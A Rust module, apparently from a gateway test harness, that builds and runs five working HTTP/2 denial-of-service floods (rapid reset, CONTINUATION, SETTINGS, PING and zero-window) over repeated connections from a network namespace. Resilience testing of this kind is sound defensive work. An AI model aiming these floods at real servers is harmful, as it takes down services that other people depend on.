//! Floods of HTTP/2 frames, over one connection after the other.

use std::{
    net::TcpStream,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    thread::{self, JoinHandle},
};

use anyhow::Result;
use nix::sched::{CloneFlags, setns};

use super::{GATEWAY, client::Tls};
use crate::{
    h2raw::{
        CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, RawHttp2, SETTINGS,
        frame, get,
    },
    namespace::Namespace,
};

/// A flood.
pub struct Flood {
    /// Its name.
    pub name: &'static str,
    /// What the client says of itself first.
    settings: &'static [(u16, u32)],
    /// What it sends for the numbers from 0; nothing is the last.
    frames: fn(u32) -> Option<Vec<u8>>,
}

const BOTH: u8 = END_HEADERS | END_STREAM;
/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW_SIZE: u16 = 4;

/// Those that gateways have fallen to.
pub const ALL: [Flood; 5] = [
    Flood {
        name: "rapid_reset",
        settings: &[],
        frames: |number| {
            let stream = 2 * number + 1;
            let opened = frame(HEADERS, BOTH, stream, &get("/", &[]));
            Some([opened, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat())
        },
    },
    Flood {
        name: "continuation",
        settings: &[],
        frames: |number| {
            Some(match number {
                0 => frame(HEADERS, END_STREAM, 1, &get("/", &[])),
                _ => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
            })
        },
    },
    Flood {
        name: "settings",
        settings: &[],
        frames: |_| Some(frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
    },
    Flood {
        name: "ping",
        settings: &[],
        frames: |number| Some(frame(PING, 0, 0, &u64::from(number).to_be_bytes())),
    },
    Flood {
        name: "zero_window",
        settings: &[(INITIAL_WINDOW_SIZE, 0)],
        frames: |number| {
            (number < 100)
                .then(|| frame(HEADERS, BOTH, 2 * number + 1, &get("/bytes/1048576", &[])))
        },
    },
];

/// A flood that goes on.
pub struct Attack {
    stopped: Arc<AtomicBool>,
    ended: Arc<AtomicUsize>,
    thread: JoinHandle<()>,
}

impl Flood {
    /// Begins.
    pub fn start(&self, namespace: &Namespace, tls: &Tls) -> Result<Attack> {
        let (stopped, ended) = (Arc::<AtomicBool>::default(), Arc::<AtomicUsize>::default());
        let file = std::fs::File::open(namespace.path())?;
        let (tls, over, count) = (tls.clone(), stopped.clone(), ended.clone());
        let (settings, frames) = (self.settings, self.frames);
        let thread = thread::spawn(move || {
            if setns(&file, CloneFlags::CLONE_NEWNET).is_err() {
                return;
            }
            // Those that are held open are dropped at the end.
            let mut held = Vec::new();
            while !over.load(Ordering::Relaxed) {
                held.extend(connection(&tls, settings, frames, &over));
                count.fetch_add(1, Ordering::Relaxed);
            }
        });
        Ok(Attack { stopped, ended, thread })
    }
}

/// Floods one connection to its end; one that is left open is handed back.
fn connection(
    tls: &Tls,
    settings: &[(u16, u32)],
    frames: fn(u32) -> Option<Vec<u8>>,
    over: &AtomicBool,
) -> Option<RawHttp2<super::client::Stream>> {
    let stream = tls.http2(TcpStream::connect(GATEWAY).ok()?).ok()?;
    let mut client = RawHttp2::begin(stream, settings).ok()?;
    let mut number = 0;
    while !over.load(Ordering::Relaxed) {
        match frames(number) {
            Some(frame) if client.send(&frame) => number += 1,
            Some(_) => return None,
            None => return Some(client),
        }
    }
    None
}

impl Attack {
    /// Ends; how many connections it took.
    pub fn stop(self) -> usize {
        self.stopped.store(true, Ordering::Relaxed);
        // It has panicked only with the connections that end here.
        drop(self.thread.join());
        self.ended.load(Ordering::Relaxed)
    }
}
